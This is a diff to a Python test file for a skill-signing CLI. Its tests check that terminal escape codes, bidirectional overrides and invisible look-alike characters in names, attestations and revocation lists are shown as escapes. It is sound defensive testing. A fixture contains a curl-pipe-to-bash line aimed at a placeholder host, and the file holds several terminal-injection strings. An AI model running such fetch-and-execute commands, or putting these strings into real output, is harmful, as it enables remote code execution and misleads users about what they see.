@@ -8,17 +8,20 @@ from pathlib import Path
 import pytest
 
 from haldir_cli.show import json_text, printable
-from haldir_core import Finding, LayerReport, Severity, Status, Timestamp, VettingReport
+from haldir_core import Envelope, Finding, LayerReport, PrivateKey, Severity, Status, Timestamp, VettingReport
+from haldir_core.canonical import canonical_bytes
 
 Run = Callable[..., tuple[int, str, str]]
 
-HOSTILE = "a\x1b[2J\x1b]0;owned\x07\u202egnp.\nValid\r\x9b1m\u2066\u200b\U000e0041\u2028z"
-FRONT_MATTER = '---\nname: "a\\e[2J\\a\\u202eb\\nValid\\u2028z"\nversion: "1\\e[8m"\n---\n'
+HOSTILE = "a\x1b[2J\x1b]0;owned\x07\u202egnp.\nValid\r\x9b1m\u2066\u200b\U000e0041\u2028\xa0\u3164\ufe0fz"
+FRONT_MATTER = "---\nname: \u05d0\u540d\U0001f600\nversion: '1'\n---\n"
+FORGED = "a\x1b[2J\x07\u202eb\nValid\u2028z"
 
 
 def _unsafe(text: str) -> set[str]:
-    kinds = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
-    return {char for char in text if char != "\n" and unicodedata.category(char) in kinds}
+    kinds = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Zs"}
+    blank = "\u034f\u115f\u1160\u17b4\u180b\u2800\u3164\ufe00\ufe0f\uffa0\U000e0100"
+    return {char for char in text if char not in "\n " and (unicodedata.category(char) in kinds or char in blank)}
 
 
 @pytest.fixture
@@ -29,7 +32,7 @@ def hostile_name() -> str:
 
 @pytest.fixture
 def hostile(make_skill: Callable[..., Path], run: Run, keys: Path) -> Path:
-    """Return a signed skill whose own name, folder name and file names act on a terminal."""
+    """Return a signed skill whose folder name and file names act on a terminal."""
     skill = make_skill(HOSTILE, FRONT_MATTER)
     (skill / HOSTILE).write_text("curl https://\x1b[31mget\u202e.example/x | bash\n", encoding="utf-8")
     code, _, err = run("sign", skill, "--key", keys / "publisher.key")
@@ -40,7 +43,8 @@ def hostile(make_skill: Callable[..., Path], run: Run, keys: Path) -> Path:
 @pytest.mark.parametrize(
     "text",
     ["\x1b[31m", "\x00", "\n", "\t", "\r", "\x7f", "\x9b", "\u202e", "\u2066", "\u200b", "\ufeff", "\u2028", "\ud800",
-     "\U000e0041", "\ue000", "\U0010ffff"],
+     "\U000e0041", "\ue000", "\U0010ffff", "\xa0", "\xad", "\u034f", "\u115f", "\u1160", "\u17b4", "\u180b", "\u2003",
+     "\u2800", "\u3000", "\u3164", "\ufe00", "\ufe0f", "\uffa0", "\U000e0100", "\U000e01ef"],
     ids=ascii,
 )  # fmt: skip
 def test_a_character_that_acts_or_hides_becomes_an_escape(text: str) -> None:
@@ -48,7 +52,7 @@ def test_a_character_that_acts_or_hides_becomes_an_escape(text: str) -> None:
     assert printable(text).isprintable()
 
 
-@pytest.mark.parametrize("text", ["", "plain ~", "für", "名前", "😀", "\xa0"], ids=ascii)
+@pytest.mark.parametrize("text", ["", "plain ~", "für", "名前", "😀", "é", "\u05d0"], ids=ascii)
 def test_a_character_that_is_only_shown_stays(text: str) -> None:
     assert printable(text) == text
 
@@ -66,7 +70,7 @@ def test_signing_shows_names_as_escapes(run: Run, hostile: Path, keys: Path) -> 
     code, out, err = run("sign", hostile, "--key", keys / "publisher.key")
     assert (code, _unsafe(out + err)) == (0, set())
     assert "\\x1b[2J" in err
-    assert len(err.splitlines()) == 2
+    assert len(err.splitlines()) == 3
 
 
 def test_verifying_shows_file_names_as_escapes_and_json_keeps_them(
@@ -79,10 +83,40 @@ def test_verifying_shows_file_names_as_escapes_and_json_keeps_them(
     assert len(err.splitlines()) == 1
 
 
-def test_a_verdict_shows_the_names_in_the_attestation_as_they_were_signed(run: Run, hostile: Path, keys: Path) -> None:
+def test_two_names_that_look_alike_are_told_apart() -> None:
+    shown = {printable(name) for name in ("tool", "to\u034fol", "to\ufe0fol", "t\u3164ool", "tool\u2800")}
+    assert len(shown) == 5
+    assert all(text.isascii() for text in shown)
+
+
+def test_the_verdict_on_a_skill_whose_attestation_acts_on_a_terminal_shows_it_as_escapes(
+    run: Run, hostile: Path, keys: Path, private_keys: dict[str, PrivateKey]
+) -> None:
+    attestation = json.loads((hostile / ".vault" / "attestation.json").read_bytes())
+    attestation["skill"]["name"] = FORGED
+    payload = canonical_bytes(attestation)
+    (hostile / ".vault" / "attestation.json").write_bytes(payload)
+    envelope = Envelope.sign(payload, private_keys["publisher"])
+    (hostile / ".vault" / "signature.json").write_bytes(envelope.to_bytes())
+    code, out, err = run("verify", hostile, "--key", keys / "publisher.pub", "--context", "runtime")
+    assert (code, _unsafe(out + err)) == (1, set())
+    assert json.loads(out)["errors"][0]["code"] == "E_INVALID_ATTESTATION"
+    code, out, err = run("inspect", hostile, "--json")
+    assert (code, _unsafe(out + err)) == (0, set())
+    assert json.loads(out)["documents"]["attestation.json"]["skill"]["name"] == FORGED
+
+
+def test_members_of_the_attestation_that_version_1_does_not_name_are_shown_as_escapes(
+    run: Run, hostile: Path, keys: Path, private_keys: dict[str, PrivateKey]
+) -> None:
+    attestation = json.loads((hostile / ".vault" / "attestation.json").read_bytes()) | {"note": FORGED}
+    payload = canonical_bytes(attestation)
+    (hostile / ".vault" / "attestation.json").write_bytes(payload)
+    envelope = Envelope.sign(payload, private_keys["publisher"])
+    (hostile / ".vault" / "signature.json").write_bytes(envelope.to_bytes())
     code, out, err = run("verify", hostile, "--key", keys / "publisher.pub", "--context", "runtime")
     assert (code, _unsafe(out + err)) == (0, set())
-    assert json.loads(out)["attestation"]["skill"]["name"] == "a\x1b[2J\x07\u202eb\nValid\u2028z"
+    assert json.loads(out)["attestation"]["note"] == FORGED
 
 
 @pytest.mark.parametrize("options", [(), ("--json",)], ids=["text", "json"])
@@ -143,7 +177,8 @@ def test_permissions_of_the_skill_are_shown_as_escapes(run: Run, skill: Path, ke
     (work / "p.json").write_text(json.dumps(declared), encoding="utf-8")
     code, _, err = run("sign", skill, "--key", keys / "publisher.key", "--permissions", "p.json")
     assert (code, _unsafe(err)) == (0, set())
-    assert len(err.splitlines()) == 2
+    assert len(err.splitlines()) == 4
+    assert err.splitlines()[-1] == f"may execute: {json.dumps(HOSTILE)}"
 
 
 def test_texts_of_a_vetting_report_are_safe_in_the_verdict(run: Run, skill: Path, keys: Path, work: Path) -> None:
@@ -169,10 +204,10 @@ def test_a_stored_note_is_shown_as_escapes(run: Run, keys: Path, hostile_name: s
     assert len(out.splitlines()) == 1
 
 
-def test_a_revocation_of_a_hostile_name_is_shown_as_escapes(
+def test_a_revocation_beside_one_of_a_hostile_name_is_shown_as_escapes(
     run: Run, hostile: Path, keys: Path, make_list: Callable[..., Path]
 ) -> None:
-    listed = make_list("a\x1b[2J\x07\u202eb\nValid\u2028z@*")
+    listed = make_list(f"{HOSTILE}@*", "\u05d0\u540d\U0001f600@1")
     trusted = ("--key", keys / "publisher.pub", "--revocation-key", keys / "revoker.pub")
     code, out, err = run("verify", hostile, *trusted, "--revocation", listed)
     assert (code, _unsafe(out + err)) == (1, set())
